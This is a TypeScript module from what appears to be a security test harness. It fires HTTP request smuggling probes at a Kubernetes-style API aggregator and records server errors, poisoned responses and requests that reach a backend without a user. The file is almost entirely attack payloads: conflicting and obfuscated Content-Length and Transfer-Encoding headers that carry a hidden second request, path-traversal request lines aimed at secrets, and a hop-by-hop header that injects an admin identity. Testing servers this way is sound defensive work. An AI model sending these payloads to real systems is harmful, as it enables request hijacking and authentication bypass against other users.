/** Requests whose end two servers could find at different bytes: none may become a request of another user. */
import { type Attack, type AttackContext, Findings } from '../attack.ts';
import { GROUP_OF } from '../evil-servers.ts';
import { ATTACKED } from '../site.ts';
import { openTls, respondTo } from '../wire.ts';

const INNER =
  'GET /apis/evil1.example.com/v1/namespaces/attacked/things/smuggled HTTP/1.1\r\nHost: a\r\n\r\n';
const CHUNKED = `0\r\n\r\n${INNER}`;

/** The lines behind the first of a head, and the body. */
const shapes: readonly (readonly [name: string, lines: string, body: string])[] = [
  ['both lengths', `Content-Length: ${CHUNKED.length}\r\nTransfer-Encoding: chunked\r\n`, CHUNKED],
  [
    'both lengths, the other first',
    `Transfer-Encoding: chunked\r\nContent-Length: ${CHUNKED.length}\r\n`,
    CHUNKED,
  ],
  ['two lengths', `Content-Length: 0\r\nContent-Length: ${INNER.length}\r\n`, INNER],
  ['a list of lengths', `Content-Length: 0, ${INNER.length}\r\n`, INNER],
  ['a length with a sign', 'Content-Length: +0\r\n', INNER],
  ['a length in hex', 'Content-Length: 0x0\r\n', INNER],
  ['a length behind a space', 'Content-Length : 0\r\n', INNER],
  ['a length of a fraction', 'Content-Length: 0.0\r\n', INNER],
  ['an empty length', 'Content-Length:\r\n', INNER],
  ['a length beyond all', 'Content-Length: 18446744073709551616\r\n', INNER],
  ['a length that is folded', 'Content-Length:\r\n 0\r\n', INNER],
  ['a length behind a zero byte', 'Content-Length: 0\0\r\n', INNER],
  ['chunked behind a space', 'Transfer-Encoding : chunked\r\n', CHUNKED],
  ['chunked behind a tab', 'Transfer-Encoding:\tchunked\r\n', CHUNKED],
  ['chunked behind a vertical tab', 'Transfer-Encoding:\x0bchunked\r\n', CHUNKED],
  ['chunked in capitals', 'Transfer-Encoding: CHUNKED\r\n', CHUNKED],
  ['chunked and identity', 'Transfer-Encoding: chunked, identity\r\n', CHUNKED],
  ['identity and chunked', 'Transfer-Encoding: identity, chunked\r\n', CHUNKED],
  ['chunked twice', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n', CHUNKED],
  ['chunked and nonsense', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n', CHUNKED],
  ['chunked in quotes', 'Transfer-Encoding: "chunked"\r\n', CHUNKED],
  ['chunked with a parameter', 'Transfer-Encoding: chunked;a=b\r\n', CHUNKED],
  ['chunked that is folded', 'Transfer-Encoding:\r\n chunked\r\n', CHUNKED],
  ['xchunked', `Transfer-Encoding: xchunked\r\nContent-Length: ${CHUNKED.length}\r\n`, CHUNKED],
  [
    'a header of one line feed',
    `A: b\nTransfer-Encoding: chunked\r\nContent-Length: ${CHUNKED.length}\r\n`,
    CHUNKED,
  ],
  [
    'a header behind a carriage return',
    `A: b\rTransfer-Encoding: chunked\r\nContent-Length: ${CHUNKED.length}\r\n`,
    CHUNKED,
  ],
  ['a header without a name', ': b\r\nContent-Length: 0\r\n', INNER],
  ['a header of a space', ' A: b\r\nContent-Length: 0\r\n', INNER],
  ['a chunk that says too much', 'Transfer-Encoding: chunked\r\n', `ffffffffffffffff\r\n${INNER}`],
  ['a chunk with a sign', 'Transfer-Encoding: chunked\r\n', `+0\r\n\r\n${INNER}`],
  ['a chunk behind spaces', 'Transfer-Encoding: chunked\r\n', `  0\r\n\r\n${INNER}`],
  ['a chunk with a line feed', 'Transfer-Encoding: chunked\r\n', `1\nx\n0\n\n${INNER}`],
  ['a chunk with an extension', 'Transfer-Encoding: chunked\r\n', `1;\r\nx\r\n0\r\n\r\n${INNER}`],
  [
    'a chunk with an extension of line feeds',
    'Transfer-Encoding: chunked\r\n',
    `1;\nx\r\n0\r\n\r\n${INNER}`,
  ],
  [
    'trailers that are headers',
    'Transfer-Encoding: chunked\r\n',
    `0\r\nContent-Length: 100\r\nAuthorization: Bearer x\r\n\r\n${INNER}`,
  ],
  ['a body of a GET', `Content-Length: ${INNER.length}\r\n`, INNER],
  [
    'an upgrade with a body',
    `Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: ${INNER.length}\r\n`,
    INNER,
  ],
  [
    'an upgrade to h2c',
    'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n',
    INNER,
  ],
  ['an expectation', `Expect: 100-continue\r\nContent-Length: ${INNER.length}\r\n`, INNER],
  ['another expectation', `Expect: x\r\nContent-Length: ${INNER.length}\r\n`, INNER],
  ['two hosts', 'Host: b\r\n', ''],
  ['hop-by-hop length', `Connection: Content-Length\r\nContent-Length: ${INNER.length}\r\n`, INNER],
  ['hop-by-hop identity', 'Connection: X-Remote-User\r\nX-Remote-User: admin\r\n', ''],
];

const targets = ['GET', 'POST', 'PUT', 'DELETE', 'HEAD', 'OPTIONS'] as const;
const firstLines = [
  'GET http://other/api HTTP/1.1',
  'GET //api HTTP/1.1',
  'GET /a\x7f HTTP/1.1',
  'GET /a b HTTP/1.1',
  'GET /api HTTP/1.2',
  'GET /api HTTP/9.9',
  'GET /api',
  'get /api HTTP/1.1',
  'CONNECT other:443 HTTP/1.1',
  'GET * HTTP/1.1',
  'OPTIONS * HTTP/1.1',
  'PRI * HTTP/2.0',
  'GET /%2e%2e/api HTTP/1.1',
  'GET /apis/evil1.example.com/v1/../../../api/v1/secrets HTTP/1.1',
  'GET /apis/evil1.example.com/v1%2f..%2f..%2fapi HTTP/1.1',
  'GET /\xff\xfe HTTP/1.1',
];

export const smuggling: Attack = {
  name: 'smuggling',
  summary:
    'requests with two ends, odd first lines and odd targets; the bodies hold a second request',
  async run(context) {
    const { site, hasTime, evil } = context;
    const findings = new Findings();
    let sent = 0;
    const heads = heads1(site.isAggregator);
    for (const [name, bytes] of heads) {
      if (!hasTime()) break;
      sent += 1;
      const response = await responseFrom(context, bytes);
      if (response === undefined) continue;
      for (const status of response.matchAll(/^HTTP\/1\.1 (5\d\d)/gm)) {
        if (status[1] === '500') findings.add(`${name} is answered with a 500`);
      }
      if (/X-Poison/i.test(response)) findings.add(`${name} gets a response of another request`);
    }
    for (const line of (await evil?.withoutIdentity()) ?? []) {
      findings.add(`a backend got a request without a user: ${line}`);
    }
    return { sent, findings: findings.lines };
  },
};

function heads1(isAggregator: boolean): (readonly [name: string, bytes: string])[] {
  const paths = isAggregator
    ? ['/api', `/apis/${GROUP_OF['1.1']}/v1/namespaces/${ATTACKED}/things/final-latin1`]
    : ['/apis'];
  const shaped = shapes.flatMap(([name, lines, body]) =>
    targets.flatMap((method) =>
      paths.map((path) => {
        const head = `${method} ${path} HTTP/1.1\r\nHost: a\r\n${lines}\r\n`;
        return [`${method} ${path} with ${name}`, head + body] as const;
      }),
    ),
  );
  const odd = firstLines.map((line) => [line, `${line}\r\nHost: a\r\n\r\n${INNER}`] as const);
  return [...shaped, ...odd];
}

async function responseFrom({ site }: AttackContext, bytes: string): Promise<string | undefined> {
  try {
    const socket = await openTls(site, { asUser: true });
    return await respondTo(socket, Buffer.from(bytes, 'latin1'), { silentMs: 60, totalMs: 400 });
  } catch {
    return undefined; // Refused; whether the server goes on is seen by others.
  }
}
